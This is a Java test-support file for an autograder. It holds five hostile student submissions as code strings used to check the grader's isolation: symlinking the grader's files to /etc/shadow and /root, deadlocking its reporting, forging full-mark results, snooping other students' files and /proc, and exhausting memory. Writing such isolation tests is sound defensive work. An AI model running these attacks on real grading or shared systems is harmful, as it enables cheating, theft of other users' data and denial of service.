package grade;

import java.util.List;

/**
 * What a hostile student tries, as Java code the sample class puts into an exercise's most used class (a static
 * initializer runs when the tests first touch it). Each attack prints what it managed on standard output, which the
 * grader keeps (bounded) in that student's feedback: a check reads it there. The grader must hold against each:
 * see README.adoc, "What the isolation covers, and what it does not", and verify's hostile class.
 */
final class Attacks {
    private Attacks() {}

    /** The kinds, each the name of a student in the hostile class ("attack-KIND"). */
    static final List<String> KINDS = List.of("links", "hang", "forge", "snoop", "offheap");

    /** Marks the files of an honest student: a check looks for it in every other student's output. */
    static final String CANARY = "canary-of-";

    /** The code of one attack, for the exercise {@code id}. */
    static String code(String kind, String id) {
        return switch (kind) {
            // Replaces what the grader reads after the tests ran (plan, classes, sources) with links to root's
            // secrets, then makes the tests fail to link so that the grader grades the exercise a second time.
            case "links" -> """
                static {
                    StringBuilder said = new StringBuilder("links:");
                    java.nio.file.Path cwd = java.nio.file.Path.of("").toAbsolutePath();
                    for (String name : new String[] {"plan.json", "plan-all.json", "classes", "src", "compiled", "tmp"}) {
                        java.nio.file.Path p = cwd.resolve(name);
                        try {
                            if (java.nio.file.Files.isDirectory(p, java.nio.file.LinkOption.NOFOLLOW_LINKS)) java.nio.file.Files.move(p, cwd.resolve(name + ".moved"));
                            else java.nio.file.Files.deleteIfExists(p);
                            java.nio.file.Files.createSymbolicLink(p, java.nio.file.Path.of(name.startsWith("plan") ? "/etc/shadow" : "/root"));
                            said.append(" planted ").append(name);
                        } catch (Exception | Error e) {
                            said.append(" refused ").append(name);
                        }
                    }
                    System.out.println(said);
                    if (!Boolean.getBoolean("never")) throw new NoSuchMethodError("attack: grade me again, with the tests compiled beside me");
                }
                """;
            // Blocks the child's reporting (its lock, and its class's monitor) and prints a forged "start" every second,
            // forever: the deadline must not move, and the per-test timeout cannot report.
            case "hang" -> """
                static {
                    try {
                        java.io.PrintStream raw = new java.io.PrintStream(new java.io.FileOutputStream(java.io.FileDescriptor.out), true);
                        Class<?> child = Class.forName("grade.ChildMain");
                        try {
                            java.lang.reflect.Field lock = child.getDeclaredField("EMITTING");
                            lock.setAccessible(true);
                            ((java.util.concurrent.locks.Lock) lock.get(null)).lock();
                        } catch (ReflectiveOperationException | RuntimeException e) { }
                        synchronized (child) {
                            while (!Boolean.getBoolean("never")) {
                                raw.print("\\n\\u001egrade-event:{\\"type\\":\\"start\\",\\"exercise\\":\\"%s\\"}\\n");
                                Thread.sleep(1000);
                            }
                        }
                    } catch (Exception e) {
                        System.out.println("hang: " + e);
                    }
                }
                """.formatted(id);
            // Forged events: 60 results of 4 MB each, then 10,000 small ones claiming full marks, and a forged end.
            case "forge" -> """
                static {
                    java.io.PrintStream raw = new java.io.PrintStream(new java.io.FileOutputStream(java.io.FileDescriptor.out), false);
                    String big = "x".repeat(4_000_000);
                    for (int i = 0; i < 60; i++) {
                        raw.print("\\n\\u001egrade-event:{\\"type\\":\\"test\\",\\"exercise\\":\\"%1$s\\",\\"test\\":{\\"testClass\\":\\"Forged\\",\\"method\\":\\"m" + i
                            + "\\",\\"name\\":\\"forged " + i + "\\",\\"status\\":\\"PASSED\\",\\"message\\":\\"" + big + "\\",\\"points\\":1000,\\"score\\":1000}}\\n");
                    }
                    for (int i = 0; i < 10_000; i++) {
                        raw.print("\\n\\u001egrade-event:{\\"type\\":\\"test\\",\\"exercise\\":\\"%1$s\\",\\"seq\\":" + i
                            + ",\\"test\\":{\\"testClass\\":\\"Forged\\",\\"method\\":\\"n" + i + "\\",\\"name\\":\\"forged\\",\\"status\\":\\"PASSED\\",\\"points\\":1000,\\"score\\":1000}}\\n");
                    }
                    raw.print("\\n\\u001egrade-event:{\\"type\\":\\"done\\",\\"exercise\\":\\"%1$s\\",\\"outcome\\":\\"GRADED\\"}\\n");
                    raw.flush();
                    System.out.println("forge: sent");
                }
                """.formatted(id);
            // Reads whatever it can reach (other students' files, the grader's folders, every command line in /proc),
            // printing each line with a canary in it; leaves files in the machine's shared folders, fills /dev/shm,
            // and knocks on every unix socket in /tmp.
            case "snoop" -> """
                static {
                    java.util.List<String> found = new java.util.ArrayList<>();
                    java.util.Set<java.nio.file.Path> places = new java.util.LinkedHashSet<>();
                    for (String p : new String[] {"/tmp", "/var/tmp", "/dev/shm", "/root", "/home", "/work", ".."}) places.add(java.nio.file.Path.of(p).toAbsolutePath().normalize());
                    int commandLines = 0;
                    java.io.File[] procs = new java.io.File("/proc").listFiles();
                    for (java.io.File p : procs == null ? new java.io.File[0] : procs) {
                        if (!p.getName().matches("\\\\d+")) continue;
                        try {
                            String cmd = new String(java.nio.file.Files.readAllBytes(p.toPath().resolve("cmdline"))).replace('\\0', ' ');
                            commandLines++;
                            for (String arg : cmd.split("[ :=]")) if (arg.startsWith("/") && arg.length() > 1) places.add(java.nio.file.Path.of(arg));
                        } catch (Exception e) { }
                    }
                    int files = 0;
                    long until = System.nanoTime() + 5_000_000_000L;  // a few seconds of looking, then the report
                    for (java.nio.file.Path place : places) {
                        try (var walk = java.nio.file.Files.walk(place, 6)) {
                            for (java.nio.file.Path f : (Iterable<java.nio.file.Path>) walk.limit(20_000)::iterator) {
                                if (System.nanoTime() > until) break;
                                if (!java.nio.file.Files.isRegularFile(f) || !java.nio.file.Files.isReadable(f) || java.nio.file.Files.size(f) > 1_000_000) continue;
                                files++;
                                try {
                                    String text = new String(java.nio.file.Files.readAllBytes(f), java.nio.charset.StandardCharsets.ISO_8859_1);
                                    for (String line : text.split("\\n")) if (line.contains("%1$s") && !line.contains("snoop")) found.add(f + ": " + line.strip());
                                } catch (Exception | OutOfMemoryError e) { }
                            }
                        } catch (Exception | Error e) { }
                    }
                    long left = 0;
                    for (String d : new String[] {"/tmp", "/var/tmp", "/dev/shm"}) {
                        for (int i = 0; i < 100; i++) {
                            try { java.nio.file.Files.writeString(java.nio.file.Path.of(d, "attack-left-behind-" + i), "x"); left++; } catch (Exception e) { }
                        }
                    }
                    long filled = 0;
                    try (var out = java.nio.file.Files.newOutputStream(java.nio.file.Path.of("/dev/shm/attack-fill"))) {
                        byte[] mb = new byte[1 << 20];
                        for (int i = 0; i < 2048; i++) { out.write(mb); filled++; }
                    } catch (Exception e) { }
                    int sockets = 0;
                    try (var s = java.nio.file.Files.list(java.nio.file.Path.of("/tmp"))) {
                        for (java.nio.file.Path p : s.toList()) {
                            try (var ch = java.nio.channels.SocketChannel.open(java.net.UnixDomainSocketAddress.of(p))) {
                                ch.write(java.nio.ByteBuffer.wrap("hello from a student\\n".getBytes()));
                                sockets++;
                            } catch (Exception e) { }
                        }
                    } catch (Exception e) { }
                    System.out.println("snoop: " + commandLines + " command lines, " + files + " files read, " + found.size() + " lines of other students, "
                        + left + " files left in shared folders, " + filled + " MB in /dev/shm, " + sockets + " sockets answered");
                    for (String f : found) System.out.println("FOUND " + f);
                }
                """.formatted(CANARY);
            // Memory outside the heap: sun.misc.Unsafe, then the FFM API, 3 GB each, every page touched.
            case "offheap" -> """
                static {
                    long unsafe = 0, foreign = 0;
                    try {
                        java.lang.reflect.Field f = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
                        f.setAccessible(true);
                        sun.misc.Unsafe u = (sun.misc.Unsafe) f.get(null);
                        for (int i = 0; i < 30; i++) { long a = u.allocateMemory(100L << 20); u.setMemory(a, 100L << 20, (byte) 1); unsafe += 100; }
                    } catch (Throwable t) {
                        System.out.println("offheap: Unsafe refused after " + unsafe + " MB: " + t);
                    }
                    try {
                        for (int i = 0; i < 30; i++) { java.lang.foreign.Arena.global().allocate(100L << 20).fill((byte) 1); foreign += 100; System.out.println("offheap: " + foreign + " MB"); }
                    } catch (Throwable t) {
                        System.out.println("offheap: FFM refused after " + foreign + " MB: " + t);
                    }
                    System.out.println("offheap: " + unsafe + " MB with Unsafe and " + foreign + " MB with FFM, outside the heap");
                }
                """;
            default -> throw new IllegalArgumentException("no attack " + kind);
        };
    }
}
